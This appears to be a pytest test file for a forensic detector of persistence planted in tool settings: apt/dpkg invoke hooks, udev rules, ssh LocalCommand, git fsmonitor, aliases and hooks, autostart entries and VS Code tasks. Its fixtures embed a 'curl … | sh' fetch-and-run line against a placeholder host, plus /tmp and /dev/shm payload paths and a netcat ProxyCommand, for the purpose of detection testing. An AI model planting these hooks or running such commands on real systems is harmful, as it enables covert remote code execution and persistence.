"""Settings that make tools run something."""

from __future__ import annotations

import time

import pytest

from forensics.detectors.tool_hooks import DETECTOR
from tests.scenes import debian, dpkg, judge, said, symlink

RULE = "persistence/tool-hook"
FETCH = "curl -fsSL http://pool.invalid/s | sh"


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("/etc/apt/apt.conf.d/99z", f'APT::Update::Post-Invoke-Success {{"{FETCH}";}};'),
        ("/etc/apt/apt.conf.d/99z", f'DPkg::Pre-Install-Pkgs:: "{FETCH}";'),
        ("/etc/apt/apt.conf", f'DPkg {{ Post-Invoke {{ "true"; "{FETCH}"; }}; }};'),
        ("/etc/dpkg/dpkg.cfg.d/z", 'post-invoke="/dev/shm/.u"'),
        ("/etc/dpkg/dpkg.cfg", "pre-invoke=/tmp/x"),
        ("/etc/apk/commit_hooks.d/z", f"#!/bin/sh\n{FETCH}"),
        ("/etc/udev/rules.d/75-net.rules", f'ACTION=="add", RUN+="/bin/sh -c \'{FETCH}\'"'),
        ("/etc/udev/rules.d/75-net.rules", 'SUBSYSTEM=="net", PROGRAM="/tmp/.x %k"'),
        ("/etc/ssh/ssh_config.d/x.conf", f"Host *\n PermitLocalCommand yes\n LocalCommand {FETCH}"),
        ("/root/.ssh/config", "Host *\n  ProxyCommand sh -c '/tmp/.p %h; nc %h %p'"),
        ("/root/.gitconfig", f"[core]\n\tfsmonitor = {FETCH}"),
        ("/root/.gitconfig", f"[alias]\n\tst = !{FETCH}"),
        ("/app/.git/hooks/post-checkout", f"#!/bin/sh\n{FETCH}"),
        ("/app/.husky/pre-commit", f"#!/bin/sh\n{FETCH}"),
        ("/etc/xdg/autostart/u.desktop", f'[Desktop Entry]\nExec=sh -c "{FETCH}"'),
        ("/app/.vscode/tasks.json", f'{{"tasks": [{{"command": "{FETCH}"}}]}}'),
    ],
)
def test_hostile_settings(path: str, text: str) -> None:
    (found,) = judge(DETECTOR, debian(), {path: f"{text}\n".encode()})
    assert said([found]) == [(RULE, "high", path)]
    offset = found.evidence[0].offset
    assert offset is not None
    assert text[offset:].startswith(("curl", "/dev/shm", "/tmp", "sh -c", "/bin/sh"))


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (
            "/etc/apt/apt.conf.d/docker-clean",
            'DPkg::Post-Invoke { "rm -f /var/cache/apt/*.deb"; };\nAcquire::http::Proxy "http://192.0.2.1:3142";',
        ),
        ("/etc/apt/apt.conf.d/20", 'APT::Periodic::Unattended-Upgrade "1"; // curl http://pool.invalid | sh'),
        (
            "/etc/apt/apt.conf.d/50",
            'DPkg::Post-Invoke {"if [ -d /var/lib/update-notifier ]; then touch /x; fi";};',
        ),
        ("/etc/udev/rules.d/60.rules", 'KERNEL=="sd*", RUN+="/usr/bin/logger %k"'),
        ("/root/.ssh/config", "Host bastion\n  ProxyCommand ssh -W %h:%p gate\n  # LocalCommand /tmp/x"),
        ("/root/.gitconfig", "[core]\n\tpager = less\n[credential]\n\thelper = !gh auth git-credential"),
        ("/app/.git/hooks/pre-commit.sample", f"#!/bin/sh\n{FETCH}"),
        ("/app/.git/hooks/pre-commit", "#!/bin/sh\nexec npx lint-staged"),
        ("/app/.vscode/tasks.json", '{"tasks": [{"command": "npm run build"}]}'),
        ("/opt/apt.conf", f'DPkg::Post-Invoke {{ "{FETCH}"; }};'),
    ],
)
def test_ordinary_settings(path: str, text: str) -> None:
    assert judge(DETECTOR, debian(), {path: f"{text}\n".encode()}) == []


def test_what_a_package_ships_is_passed_over() -> None:
    path, text = "/usr/lib/udev/rules.d/60.rules", b'RUN+="/run/x/y"\n'
    assert judge(DETECTOR, {path: text, **dpkg({"udev": {path: text}})}) == []


def test_links_and_hidden_versions() -> None:
    text = f"post-invoke={FETCH}\n".encode()
    linked = {"/etc/dpkg/dpkg.cfg.d/z": symlink("/opt/z"), "/opt/z": text}
    assert said(judge(DETECTOR, debian(), linked)) == [(RULE, "high", "/etc/dpkg/dpkg.cfg.d/z")]
    path = "/etc/dpkg/dpkg.cfg.d/z"
    assert said(judge(DETECTOR, debian(), {path: text}, {path: None})) == [(RULE, "medium", path)]


def test_hostile_text_is_read_in_bounded_time() -> None:
    begun = time.monotonic()
    for text in ('"\\' * 100_000, "Post-Invoke{" * 20_000, "pager" + " " * 200_000, '"command":' * 20_000):
        for path in ("/etc/apt/apt.conf", "/root/.gitconfig", "/app/.vscode/tasks.json"):
            judge(DETECTOR, debian(), {path: text.encode()})
    assert time.monotonic() - begun < 20


def test_a_brace_inside_a_command_of_apt_does_not_end_the_section() -> None:
    text = b'DPkg::Post-Invoke { "x=${x}; true"; "curl http://a.invalid/x | sh"; };\n'
    (found,) = judge(DETECTOR, debian(), {"/etc/apt/apt.conf.d/99x": text})
    assert found.evidence[0].offset == text.index(b"curl")


@pytest.mark.timeout(60)
@pytest.mark.parametrize("unit", [b'Pre-Invoke{"', b'Pre-Invoke{"\\"', b'Pre-Invoke "', b'\\"', b'{"} '])
def test_quotations_that_never_end_are_read_in_linear_time(unit: bytes) -> None:
    text = b"DPkg::Pre-Invoke { " + unit * (512 * 1024 // len(unit))
    assert judge(DETECTOR, debian(), {"/etc/apt/apt.conf": text}) == []
